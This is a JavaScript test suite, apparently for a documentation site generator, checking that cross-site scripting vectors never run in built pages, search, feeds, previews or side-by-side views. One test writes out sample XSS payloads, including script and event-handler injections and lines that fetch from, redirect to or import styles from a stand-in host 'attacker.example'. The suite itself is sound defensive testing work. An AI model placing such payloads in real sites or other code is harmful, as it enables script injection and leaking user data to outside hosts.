// No script of content's runs: what attackers write, in every place that content has, opened with the content security policy
// switched off. Every 30th vector of the suite in some seconds; all of them with POLYDOC_FULL=1.
import assert from "node:assert/strict";
import { readdir, readFile } from "node:fs/promises";
import { join } from "node:path";
import { test } from "node:test";

import { isFull, site, vectors, watch } from "./attacks.js";
import { build, open, preview, scratch, write } from "./sites.js";

const texts = await vectors();
const skip = texts ? false : "no corpus";

/** All pages of a folder, by address. */
async function addresses(folder) {
  const entries = await readdir(folder, { recursive: true, withFileTypes: true });
  const files = entries.filter((entry) => entry.isFile() && entry.name.endsWith(".html"));
  const found = [];
  for (const entry of files) {
    const path = join(entry.parentPath ?? entry.path, entry.name);
    const html = await readFile(path, "utf8");
    const refresh = /<meta http-equiv="refresh" content="([^"]*)"/.exec(html);
    // Old addresses lead on by themselves: nowhere but to a page of the site.
    if (refresh) assert.match(refresh[1], /^0; url=\/[\w-]+\/[^/]/, path);
    else found.push(path.slice(folder.length).split("/").map(encodeURIComponent).join("/"));
  }
  return found;
}

/** Visits addresses in several pages at a time; gives what was found, by address. */
async function all(place, paths, options) {
  const found = [];
  const rest = [...paths];
  const workers = Array.from({ length: 3 }, async () => {
    const watched = await watch(place);
    for (let path; (path = rest.pop()) !== undefined; ) {
      const hits = await watched.visit(path, options);
      if (hits.length) found.push([decodeURIComponent(path), hits]);
    }
    await watched.done();
  });
  await Promise.all(workers);
  return found;
}

test("the watch sees a script, a handler, a frame, a form and an address that run", async () => {
  const cases = {
    script: ["<script>alert(1)</script>", /ran: alert\(1\)/],
    handler: ["<b onmouseover=\"alert(2)\">a</b>", /ran: alert\(2\)/],
    error: ["<img src='data:image/png;base64,AA' onerror=\"alert(3)\">", /ran: alert\(3\)/],
    ask: ["<script>fetch('https://attacker.example/')</script>", /asks \(fetch\)/],
    frame: ["<iframe srcdoc='<script>parent.alert(4)</script>'></iframe>", /ran: alert\(4\)/],
    leave: ["<script>location = 'https://attacker.example/'</script>", /asks \(document\)/],
    style: ["<style>@import 'https://attacker.example/a.css';</style>", /asks \(stylesheet\)/],
  };
  const files = Object.entries(cases).map(([name, [text]]) => [`content/en-US/${name}.md`, `# A\n\n<div>${text}</div>\n`]);
  const project = await write("attacks-proof", { "polydoc.yml": "html: trusted\nsource_locale: en-US\n", ...Object.fromEntries(files) });
  const place = await open(await build(project, join(scratch, "attacks-proof-out")));
  const watched = await watch(place);
  for (const [name, [, expected]] of Object.entries(cases)) {
    const hits = await watched.visit(`/en-us/${name}/`).catch((error) => [error.message, ...watched.hits()]);
    assert.match(hits.join("\n"), expected, name);
  }
  await watched.done();
});

for (const level of ["standard", "strict", "trusted"]) {
  test(`nothing of an attacker's runs on any page of a site whose HTML is ${level}`, { skip }, async () => {
    const place = await open(await build(await site(`attacks-${level}`, level, texts), join(scratch, `attacks-${level}-out`)));
    const pages = await addresses(place.folder);
    assert.ok(pages.length > texts.length * 2);
    // Pages of the same texts in another language show the same, and names are the same at all levels.
    const chosen = pages.filter((path) => !/^\/de-de\/(?:n|v[2-9]|v1\d)/.test(path) && (level === "standard" || !path.startsWith("/en-us/n")));
    assert.deepEqual((await all(place, chosen)).slice(0, 10), []);
  });
}

test("nothing runs in results, queries, addresses that do not exist, feeds and files for programs", { skip }, async () => {
  const place = await open(await build(await site("attacks-around", "standard", texts), join(scratch, "attacks-around-out")));
  const asked = isFull ? texts : texts.slice(0, 8);
  const short = asked.map((text) => encodeURIComponent(text.slice(0, 300).toWellFormed()));
  const watched = await watch(place);
  await watched.visit("/en-us/search/?q=ambush");
  await watched.page.locator(".result").first().waitFor();
  assert.deepEqual(await watched.visit("/en-us/search/?q=ambush&f.author=x"), []);
  const found = [];
  for (const text of short) {
    for (const path of [`/en-us/search/?q=${text}&f.author=${text}&f.${text}=x`, `/en-us/${text}/nowhere#${text}`, `/en-us/v0/?${text}#${text}`]) {
      const hits = await watched.visit(path, { touch: false });
      if (hits.length) found.push([path, hits]);
    }
  }
  await watched.page.goto(`${place.url}/en-us/`);
  for (const text of asked.slice(0, 10)) {
    await watched.page.fill("#search-field", `ambush ${text.slice(0, 60)}`);
    await watched.page.waitForTimeout(60);
  }
  found.push(...watched.hits().map((hit) => ["the field", hit]));
  for (const file of ["/en-us/llms.txt", "/llms.txt", "/en-us/feed.xml", "/en-us/sitemap.xml", "/_redirects", "/redirects.json", "/en-us/site.webmanifest", "/en-us/v1.md", "/en-us/v1/index.md", "/robots.txt"]) {
    const hits = (await watched.visit(file, { touch: false, walk: false })).filter((hit) => !/^download/.test(hit));
    if (hits.length) found.push([file, hits]);
  }
  await watched.done();
  assert.deepEqual(found.slice(0, 10), []);
});

test("nothing runs in the preview, in its list of findings and in two languages side by side", { skip }, async () => {
  const project = await site("attacks-preview", "standard", texts);
  const place = await preview(project);
  try {
    const some = texts.map((_, at) => at).filter((at) => isFull || at % 4 === 0);
    const watched = await watch(place);
    const found = [];
    for (const at of some) {
      const hits = await watched.visit(`/en-us/v${at}/`, { walk: false });
      const panel = await watched.page.evaluate(() => {
        const root = document.querySelector("polydoc-panel")?.shadowRoot;
        return [...(root?.querySelectorAll("script, img, svg, iframe, object, embed, form") ?? [])].map((element) => element.outerHTML.slice(0, 80));
      });
      if (hits.length || panel.length) found.push([at, hits, panel]);
    }
    await watched.done();
    assert.deepEqual(found.slice(0, 10), []);
    const beside = await watch(place);
    for (const text of texts.slice(0, 12)) {
      const value = encodeURIComponent(text.slice(0, 200).toWellFormed());
      for (const path of [`/.polydoc/side?left=${value}&right=${value}`, `/.polydoc/side?left=/en-us/v1/&right=%2F${value}`]) {
        const hits = (await beside.visit(path, { walk: false })).filter((hit) => !hit.startsWith(`frame: ${place.url}/`) && !/^(?:thrown|console)/.test(hit));
        assert.deepEqual(hits, [], path);
      }
    }
    await beside.done();
  } finally {
    place.close();
  }
});
